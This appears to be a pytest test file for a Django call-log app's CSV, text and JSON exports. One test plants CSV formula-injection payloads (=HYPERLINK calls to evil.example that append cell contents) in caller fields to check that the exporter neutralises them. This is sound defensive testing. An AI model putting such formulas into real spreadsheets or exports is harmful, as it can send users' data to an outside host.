"""Exports: the filtered list as CSV, one call as text and as JSON — exact content."""

from __future__ import annotations

import json

import pytest
from django.utils import timezone

from calls.export import csv_safe
from calls.models import Call
from tests.call_factories import add_event, dental_agent, make_call, make_user, three_calls
from tests.factories import make_agent

pytestmark = pytest.mark.django_db

HEADER = "time,call_uuid,from,to,agent,direction,status,duration_s,sentiment,v2v_p50_ms,interruptions,summary\r\n"
HOURS = "2025-03-08T10:00:00+00:00,CA-hours-3,+14155550333,+14155550100,Dental desk,inbound,completed,,neutral,,,Asked about opening hours.\r\n"  # noqa: E501
PIZZA = "2025-03-06T10:00:00+00:00,CA-pizza-2,+14155550100,+14155550222,Pizza line,outbound,failed,7,negative,1200.0,0,'=Complaint about a cold pizza.\r\n"  # noqa: E501
BOOKED = "2025-03-04T10:00:00+00:00,CA-known-1,+14155550111,+14155550100,Dental desk,inbound,completed,42,positive,800.0,,Booked a cleaning for Tuesday.\r\n"  # noqa: E501


@pytest.fixture
def operator(client):
    client.force_login(make_user("operator", permitted=True))
    return client


def test_csv_export_of_every_call(operator):
    three_calls()
    response = operator.get("/calls/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="calls-{timezone.localdate().isoformat()}.csv"'
    assert response.content.decode() == HEADER + HOURS + PIZZA + BOOKED


def test_csv_export_follows_the_list_filters_not_the_page(operator):
    three_calls()
    assert operator.get("/calls/export.csv?sentiment=negative&page=3").content.decode() == HEADER + PIZZA
    assert operator.get("/calls/export.csv?q=tuesday").content.decode() == HEADER + BOOKED
    assert operator.get("/calls/export.csv?q=no+such+words").content.decode() == HEADER


def test_list_links_to_the_csv_of_the_same_filters(operator):
    three_calls()
    html = operator.get("/calls/?sentiment=negative&page=1").content.decode()
    assert '<a class="button" id="export-csv" href="/calls/export.csv?sentiment=negative">Export CSV</a>' in html


def test_csv_cells_cannot_run_as_formulas(operator):
    """A caller ID and a summary quoting the caller (what the transcript said) are caller-controlled text."""
    make_call(
        make_agent("@Front desk"),
        call_uuid="\tCA-1",
        from_number='=HYPERLINK("http://evil.example/?x","Call back")',
        to_number="+14155550100",
        sentiment="",
        metrics={"interruptions": "-1+2"},
        summary='=HYPERLINK("http://evil.example/?"&A1,"Click") said the caller.',
    )
    assert operator.get("/calls/export.csv").content.decode() == HEADER + (
        '2025-03-04T10:00:00+00:00,\'\tCA-1,"\'=HYPERLINK(""http://evil.example/?x"",""Call back"")",'
        "+14155550100,'@Front desk,inbound,completed,42,,,'-1+2,"
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"") said the caller."\r\n'
    )


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+14155550100", "+14155550100"),
        ("-3.5", "-3.5"),
        ("+", "'+"),
        ("a=1", "a=1"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_csv_safe(value, safe):
    assert csv_safe(value) == safe


def analysed_call() -> Call:
    return make_call(
        dental_agent(),
        summary="Jane booked a cleaning.",
        sentiment="positive",
        sentiment_reason="Thanked the agent.",
        extracted_data={"email": "jane@example.com", "visits": None},
        error_notes="Extraction: dropped visits = 'three' (integer): is not a whole number.",
    )


def test_text_export(operator):
    call = analysed_call()
    response = operator.get(f"/calls/{call.pk}/transcript.txt")
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="call-{call.pk}.txt"'
    assert response.content.decode() == (
        "Call CA-known-1: +14155550111 -> +14155550100, inbound, completed\n"
        f"Agent: Dental desk (v{call.agent_version})\n"
        "Started: 2025-03-04T10:00:00+00:00, duration: 42 s\n"
        "Summary: Jane booked a cleaning.\n"
        "Sentiment: positive (Thanked the agent.)\n"
        "Data: email = jane@example.com\n"
        "Data: visits = -\n"
        "\n"
        "[00:00.6] Agent: Hello, this is Acme Dental. How can I help?\n"
        "[00:04.0] Caller: Hi, I'd like to book a cleaning for next week.\n"
        "[00:07.3] Agent: Sure, we have Tuesday at 10 [interrupted; not heard: or Thursday at 2.]\n"
        "[00:09.1] Caller: Tuesday works. My email is jane@example.com\n"
        "[00:12.9] Agent: Great, you're booked for Tuesday at 10.\n"
        "[00:16.0] Caller: Thanks, that's perfect.\n"
        "[00:18.1] Agent: You're welcome. Goodbye!\n"
    )


def test_json_export(operator):
    call = analysed_call()
    add_event(call, "dtmf", {"digit": "5"}, 8.5)
    response = operator.get(f"/calls/{call.pk}/call.json")
    assert response["Content-Disposition"] == f'attachment; filename="call-{call.pk}.json"'
    data = json.loads(response.content)
    assert sorted(data) == [
        "agent_config",
        "analysis_status",
        "call",
        "data",
        "error_notes",
        "events",
        "metrics",
        "sentiment",
        "sentiment_reason",
        "summary",
        "transcript",
    ]
    assert data["events"] == [{"time": "2025-03-04T10:00:09.500000+00:00", "kind": "dtmf", "data": {"digit": "5"}}]
    assert data["agent_config"] == call.agent_snapshot
    assert data["agent_config"]["summary_instructions"] == "Focus on the booking."
    assert "webhook_secret" not in data["agent_config"]
    assert [t["heard_text"] for t in data["transcript"]][1:3] == [
        "Hi, I'd like to book a cleaning for next week.",
        "Sure, we have Tuesday at 10",
    ]
    assert (data["summary"], data["data"], data["call"]["call_uuid"]) == (
        "Jane booked a cleaning.",
        {"email": "jane@example.com", "visits": None},
        "CA-known-1",
    )
